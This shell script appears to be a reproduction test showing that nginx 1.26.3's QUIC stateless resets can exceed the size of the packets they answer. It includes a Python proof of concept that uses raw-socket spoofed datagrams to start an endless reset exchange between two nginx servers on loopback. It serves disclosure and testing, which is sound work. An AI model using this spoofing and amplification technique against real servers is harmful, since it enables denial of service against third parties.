#!/bin/sh
# SPDX-License-Identifier: GPL-2.0-or-later
# nginx 1.26.3 (Debian 13): one forged datagram keeps two nginx servers sending to each other, hundreds of times
#
# A stateless reset is smaller than the packet that it answers, one would guess, as RFC 9000, 10.3.3 demands, or two hosts
# answer each other's resets forever. nginx takes a random size of up to three times the packet's. So whoever
# forges a source address gets back more than was sent, at somebody else's; and if that somebody is another
# nginx with HTTP/3, it takes the reset for a stray packet as well and answers. The exchange ends by chance.
# (nginx 1.30.6 sends smaller resets, and ten datagrams cause two more.)
#
# Seen: 50 packets of 300 bytes with a short header and an unknown connection ID are answered by more bytes than they
# had. Ten datagrams with a forged source cause more than a hundred between two servers on one loopback.
. "$(dirname "$0")/lib/debian.sh"
. "$(dirname "$0")/lib/servers.sh"

debian trixie nginx python3-minimal openssl
pinned nginx 1.26.3
certificate
nginx_conf
sed 's/4433/4434/; s,/tmp/pid,/tmp/pid2,' "$tmp/root/tmp/nginx.conf" >"$tmp/root/tmp/second.conf"
cat >"$tmp/root/tmp/stray.py" <<'end'
import os
import socket
import struct
import time


def stray():
    return b'\x41' + os.urandom(299)


def received():
    """How many UDP datagrams this network namespace has delivered."""
    with open('/proc/net/snmp') as f:
        return next(int(n[1]) for n in map(str.split, f) if n[0] == 'Udp:' and n[1].isdigit())


def back():
    """How many bytes come back for 300."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(1)
        s.sendto(stray(), ('127.0.0.1', 4433))
        try:
            return len(s.recv(4096))
        except OSError:
            return 0


while not back():
    time.sleep(0.1)
time.sleep(1)
print('more' if sum(back() for _ in range(50)) > 50 * 300 else 'less')
before = received()
with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP) as s:
    for _ in range(10):
        s.sendto(struct.pack('>4H', 4434, 4433, 308, 0) + stray(), ('127.0.0.1', 0))
time.sleep(3)
print('over a hundred' if received() - before > 100 else received() - before)
end
seen "of 300 bytes each; after ten forged ones" "more
over a hundred" "$(in_root sh -c 'nginx -c /tmp/nginx.conf; nginx -c /tmp/second.conf; python3 /tmp/stray.py
	nginx -c /tmp/nginx.conf -s stop; nginx -c /tmp/second.conf -s stop' 2>/dev/null)"
